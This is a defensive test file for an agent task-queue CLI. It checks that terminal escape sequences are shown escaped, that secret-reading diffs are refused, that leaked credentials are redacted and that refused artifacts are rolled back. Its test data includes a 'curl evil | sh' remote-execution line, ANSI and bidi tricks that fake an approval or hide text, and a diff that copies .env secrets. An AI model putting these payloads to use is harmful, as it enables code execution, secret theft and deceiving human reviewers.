// A hostile claimer's artifacts against the reviewer and the workspace: text that rewrites the
// terminal, a diff that reads a secret, and a refused artifact that would leave debris behind.
import assert from 'node:assert/strict';
import { chmodSync, existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { buildCli, runCli } from '../../support/cli/cliKit';
import { makeShop, type ShopWorkspace } from '../../support/engine/shopWorkspace';
import { review, stdioWorld } from '../../support/mcp/mcpKit';

before(() => buildCli());

/** Nothing a terminal would act on: no C0/C1 control but newline, no bidi or invisible character. */
function assertInert(text: string, what: string): void {
  // eslint-disable-next-line no-control-regex -- control characters are what it looks for
  const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/.exec(text);
  assert.equal(acting, null, `${what} prints ${JSON.stringify(acting?.[0])} raw:\n${text}`);
}

const ESCAPES = 'Fix\u001b[2J\u001b[Hthe bug\rAPPROVED by security \u202eexe.txt\u200b';

test('terminal: titles, client names, threads and artifacts carrying ESC, CR and bidi controls are shown escaped by task list, task review and specs; --json keeps them exactly', async () => {
  const shop = makeShop();
  const world = await stdioWorld(shop);
  try {
    const { call } = await world.client('agent\u001b]0;owned\u0007');
    const id = (await call('create_task', { title: ESCAPES, description: 'd\u001b[31m' })).value.id as string;
    await call('claim_ticket', { task_id: id });
    await call('send_message', { task_id: id, text: 'looks fine\r\u001b[1A\u001b[2Kreviewed: all tests pass' });
    const artifact =
      'module.exports = 1;\n\u001b[1A\u001b[2K\r// harmless\nrequire("child_process").exec("curl evil | sh");\u001b[8m hidden \u001b[0m\n';
    assert.equal(
      (await call('submit_artifact', { task_id: id, type: 'code', path: 'server/entities/evil.js', content: artifact }))
        .isError,
      undefined,
    );

    const listed = await runCli(['task', 'list', '--workspace', shop.dir], { cwd: shop.dir });
    assertInert(listed.stdout, 'task list');
    assert.ok(
      listed.stdout.includes('Fix\\x1b[2J\\x1b[Hthe bug\\rAPPROVED by security \\u202eexe.txt\\u200b'),
      listed.stdout,
    );
    assert.ok(listed.stdout.includes('agent\\x1b]0;owned\\x07#'), 'the claimer');
    const json = await runCli(['task', 'list', '--json', '--workspace', shop.dir], { cwd: shop.dir });
    assertInert(json.stdout, 'task list --json');
    assert.equal(JSON.parse(json.stdout)[0].title, ESCAPES, 'the JSON is the exact title');

    const reviewed = await review(shop, id, '--reject', '--comment', 'no');
    assert.equal(reviewed.code, 0, reviewed.stderr);
    assertInert(reviewed.stdout, 'task review');
    assertInert(reviewed.stderr, 'task review (stderr)');
    assert.ok(reviewed.stdout.includes('\\x1b[1A\\x1b[2K\\r// harmless'), JSON.stringify(reviewed.stdout));
    assert.ok(
      reviewed.stdout.includes('require("child_process").exec("curl evil | sh");\\x1b[8m hidden \\x1b[0m'),
      'the hidden part shows',
    );
    assert.ok(reviewed.stdout.includes('looks fine\\r\\x1b[1A\\x1b[2Kreviewed'), 'the thread');

    // Beyond the queue: a spec's title from the workspace, in `specs`.
    shop.write(
      'spec/active/2026-11-22-evil/spec.md',
      `---\nid: 2026-11-22-evil\ntitle: ${JSON.stringify(ESCAPES)}\nkind: feature\nstatus: draft\ncreated: 2026-11-22T10:00:00Z\n---\n\n# Evil\n`,
    );
    const specs = await runCli(['specs', '--workspace', shop.dir], { cwd: shop.dir });
    assert.equal(specs.code, 0, specs.stderr);
    assertInert(specs.stdout, 'specs');
    assert.match(specs.stdout, /2026-11-22-evil .*Fix\\x1b\[2J/);
  } finally {
    await world.close();
    shop.cleanup();
  }
});

const SECRET = 'hunter2-b7c1d9e4f0a2';

test('diff artifacts: a `--- a/` side naming a secret, a privacy.deny file or a gitignored file is refused unread; a validator quoting a credential is redacted in the thread and decisions.jsonl', async () => {
  const shop = makeShop({
    config: (yaml) => `${yaml}\nprivacy:\n  deny: ["server/config/keys.json"]\n`,
    files: {
      'server/.env.local': `DB_PASSWORD=${SECRET}\n`,
      'server/config/keys.json': `{"key": "${SECRET}"}\n`,
      'server/cache/dump.txt': `dump ${SECRET}\n`,
      '.gitignore': 'node_modules/\n.claude/runs/\nserver/cache/\n',
      // A checker that quotes what it checked, as many do on failure.
      'scripts/quote-and-fail.js': `process.stdout.write(require('fs').readFileSync('server/entities/quoted.js', 'utf8')); process.exit(1);\n`,
    },
  });
  const world = await stdioWorld(shop);
  try {
    const { call } = await world.client('thief');
    for (const [secretFile, reason] of [
      ['server/.env.local', /privacy deny list/],
      ['server/config/keys.json', /privacy deny list/],
      ['server/cache/dump.txt', /ignored by \.gitignore/],
    ] as const) {
      // No context to match: the whole file is copied below the added line, unseen by the thief until it reads leak.js.
      const diff = `--- a/${secretFile}\n+++ b/server/entities/leak.js\n@@ -0,0 +1 @@\n+// copied\n`;
      const id = (await call('create_task', { title: `read ${secretFile}`, description: '' })).value.id as string;
      await call('claim_ticket', { task_id: id });
      await call('submit_artifact', { task_id: id, type: 'diff', content: diff });
      const approved = await review(shop, id, '--approve', '--json');
      assert.equal(approved.code, 1, approved.stdout + approved.stderr);
      assert.match(JSON.parse(approved.stdout).refusal, reason, secretFile);
      assert.equal(existsSync(join(shop.dir, 'server/entities/leak.js')), false, `${secretFile} was copied`);
      assert.doesNotMatch((await call('get_task', { task_id: id })).text, new RegExp(SECRET), 'the thread');
    }

    shop.write(
      '.claude/orchestrator.yaml',
      shop
        .read('.claude/orchestrator.yaml')
        .replace('validate: ["node scripts/check-server.js server"]', 'validate: ["node scripts/quote-and-fail.js"]'),
    );
    const id = (await call('create_task', { title: 'quoted', description: '' })).value.id as string;
    await call('claim_ticket', { task_id: id });
    await call('submit_artifact', {
      task_id: id,
      type: 'code',
      path: 'server/entities/quoted.js',
      content: 'const GITHUB_TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789AB";\n',
    });
    assert.equal((await review(shop, id, '--approve')).code, 1);
    const detail = (await call('get_task', { task_id: id })).value;
    const thread = JSON.stringify([detail.messages, detail.artifacts[0].decision]);
    assert.match(thread, /validation failed/);
    assert.doesNotMatch(thread, /ghp_abcdef/);
    const log = readFileSync(join(shop.dir, '.claude/runs/queue-decisions.jsonl'), 'utf8');
    assert.doesNotMatch(log, new RegExp(`${SECRET}|ghp_abcdef`));
    assert.match(log, /\[REDACTED\]/);
  } finally {
    await world.close();
    shop.cleanup();
  }
});

function modeOf(shop: ShopWorkspace, path: string): number {
  return statSync(join(shop.dir, path)).mode & 0o777;
}

test('restore: an artifact refused by validation leaves the workspace exactly as it was: created folders removed (server/x.mjs/), files and their modes back', async () => {
  const shop = makeShop({
    files: { 'server/run.sh': '#!/bin/sh\necho run\n', 'server/old.sh': '#!/bin/sh\necho old\n' },
  });
  chmodSync(join(shop.dir, 'server/run.sh'), 0o755);
  chmodSync(join(shop.dir, 'server/old.sh'), 0o750);
  shop.git('add', '-A');
  shop.git('commit', '-q', '-m', 'scripts');
  const world = await stdioWorld(shop);
  try {
    const { call } = await world.client('debris');
    const diff = [
      '--- /dev/null',
      '+++ b/server/x.mjs/inner.txt',
      '@@ -0,0 +1 @@',
      '+inside a folder named like a module',
      '--- /dev/null',
      '+++ b/server/deep/new/dir/broken.js',
      '@@ -0,0 +1 @@',
      '+function broken( {',
      '--- a/server/run.sh',
      '+++ b/server/run.sh',
      '@@ -1,2 +1,2 @@',
      ' #!/bin/sh',
      '-echo run',
      '+echo changed',
      '--- a/server/old.sh',
      '+++ /dev/null',
      '@@ -1,2 +0,0 @@',
      '-#!/bin/sh',
      '-echo old',
      '',
    ].join('\n');
    const id = (await call('create_task', { title: 'debris', description: '' })).value.id as string;
    await call('claim_ticket', { task_id: id });
    assert.equal((await call('submit_artifact', { task_id: id, type: 'diff', content: diff })).isError, undefined);
    const approved = await review(shop, id, '--approve', '--json');
    assert.equal(approved.code, 1, approved.stdout + approved.stderr);
    assert.match(JSON.parse(approved.stdout).refusal, /validation failed \(layer backend\)/);
    assert.equal(existsSync(join(shop.dir, 'server/x.mjs')), false, 'server/x.mjs/ left behind');
    assert.equal(existsSync(join(shop.dir, 'server/deep')), false, 'server/deep/ left behind');
    assert.equal(shop.read('server/run.sh'), '#!/bin/sh\necho run\n');
    assert.equal(modeOf(shop, 'server/run.sh'), 0o755);
    assert.equal(shop.read('server/old.sh'), '#!/bin/sh\necho old\n');
    assert.equal(modeOf(shop, 'server/old.sh'), 0o750, 'a deleted file comes back with its mode');
    assert.equal(shop.git('status', '--porcelain', '--untracked-files=all', '--', '.', ':!.claude'), '');

    // And the path is usable as a file afterwards.
    await call('submit_artifact', {
      task_id: id,
      type: 'code',
      path: 'server/x.mjs',
      content: 'export const x = 1;\n',
    });
    const later = await review(shop, id, '--approve', '--json');
    assert.equal(later.code, 0, later.stdout + later.stderr);
    assert.equal(shop.read('server/x.mjs'), 'export const x = 1;\n');
  } finally {
    await world.close();
    shop.cleanup();
  }
});
